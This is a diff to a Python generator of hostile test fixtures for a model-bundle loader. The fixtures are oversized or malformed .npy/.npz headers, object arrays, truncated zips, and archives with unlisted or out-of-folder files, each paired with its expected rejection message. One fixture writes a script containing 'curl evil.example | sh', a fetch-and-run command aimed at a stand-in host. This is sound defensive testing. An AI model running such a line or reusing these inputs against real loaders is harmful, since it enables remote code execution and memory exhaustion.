@@ -17,6 +17,7 @@ import json
 import struct
 import sys
 import tarfile
+import zipfile
 import zlib
 from pathlib import Path
 
@@ -201,6 +202,52 @@ PIPELINE = {
 }
 
 
+# bundle_files: a file put in place of one of a bundle's arrays (named by its prefix), its hash updated (the manifest
+# then checks out), and what loading it must say; no header may make the loader allocate
+def _npy_header(shape: tuple, descr: str = "<f4", version: int = 1) -> bytes:
+    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode("latin-1")
+    pad = 64 - (10 + len(header) + 1) % 64
+    body = header + b" " * pad + b"\n"
+    size = struct.pack("<H", len(body)) if version == 1 else struct.pack("<I", len(body))
+    return b"\x93NUMPY" + bytes([version, 0]) + size + body
+
+
+def _npz(members: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for name, data in members.items():
+            z.writestr(zipfile.ZipInfo(f"{name}.npy", date_time=(2026, 1, 1, 0, 0, 0)), data)
+    return buf.getvalue()
+
+
+BUNDLE_FILES = {
+    "head-coef-1e10.npz": (_npz({"coef": _npy_header((100000, 100000))}), "declares shape"),
+    "head-labels-huge.npz": (_npz({"labels": _npy_header((10**9,), "<U8")}), "declares shape"),
+    "head-object-array.npz": (_npz({"coef": _npy_header((4, 4), "|O")}), "Python objects"),
+    "head-data-short.npz": (_npz({"coef": _npy_header((4, 37)) + b"\x00" * 16}), "declares 592 bytes"),
+    "head-npy-version-9.npz": (_npz({"coef": b"\x93NUMPY\x09\x00" + b"\x00" * 64}), "version"),
+    "head-not-a-zip.npz": (b"PK\x03\x04 truncated", "not a readable .npz"),
+    "check-inputs-1e10.npz": (_npz({"inputs": _npy_header((10**5, 4, 32, 32, 1000))}),
+                              "declares shape"),
+    "examples-features-1e10.npz": (_npz({"features": _npy_header((10**8, 100))}),
+                                   "declares shape"),
+}
+
+# bundle_archives: the fixture bundle packed with something more (a recipe the test builds:
+# "extra" files beside the manifest, "outside" files beside the bundle's folder, "copies" of the
+# whole bundle, "folder": the bundle as a folder, not an archive) and what loading must say
+BUNDLE_ARCHIVES = {
+    "two-bundles.json": ({"copies": 2}, "2 manifests"),
+    "unlisted-script.json": ({"extra": {"run.sh": "#!/bin/sh\ncurl evil.example | sh\n"}}, "not listed"),
+    "unlisted-blob.json": ({"extra": {"blob.bin": 1 << 20}}, "not listed"),
+    # an ONNX model's external data must be a file the manifest hashes; ONNX Runtime itself
+    # refuses a location that is absolute or leaves the model's folder
+    "onnx-external-data-unlisted.json": ({"extra": {"backbone.onnx.data": 4096}}, "not listed"),
+    "member-beside-the-bundle.json": ({"outside": {"evil.txt": "x"}}, "outside the bundle's folder"),
+    "unlisted-in-a-folder.json": ({"extra": {"notes/readme.txt": "hi"}, "folder": True}, "not listed"),
+}
+
+
 def png(width: int, height: int, payload: bytes = b"") -> bytes:
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
@@ -271,7 +318,8 @@ ARCHIVES = {
 
 def main() -> None:
     expected: dict[str, dict[str, str]] = {"serial": {}, "manifests": {}, "models": {}, "station_files": {},
-                                           "images": {}, "archives": {}, "pipeline": {}}
+                                           "images": {}, "archives": {}, "pipeline": {}, "bundle_files": {},
+                                           "bundle_archives": {}}
     for kind in expected:
         (HERE / kind).mkdir(exist_ok=True)
         for old in (HERE / kind).iterdir():
@@ -305,6 +353,12 @@ def main() -> None:
     for name, (case, outcome) in PIPELINE.items():
         (HERE / "pipeline" / f"{name}.json").write_text(json.dumps(case) + "\n")
         expected["pipeline"][f"{name}.json"] = outcome
+    for name, (data, message) in BUNDLE_FILES.items():
+        (HERE / "bundle_files" / name).write_bytes(data)
+        expected["bundle_files"][name] = message
+    for name, (recipe, message) in BUNDLE_ARCHIVES.items():
+        (HERE / "bundle_archives" / name).write_text(json.dumps(recipe) + "\n")
+        expected["bundle_archives"][name] = message
     (HERE / "expected.json").write_text(json.dumps(expected, indent=1) + "\n")
     print(f"{sum(len(v) for v in expected.values())} inputs in {HERE}")
 
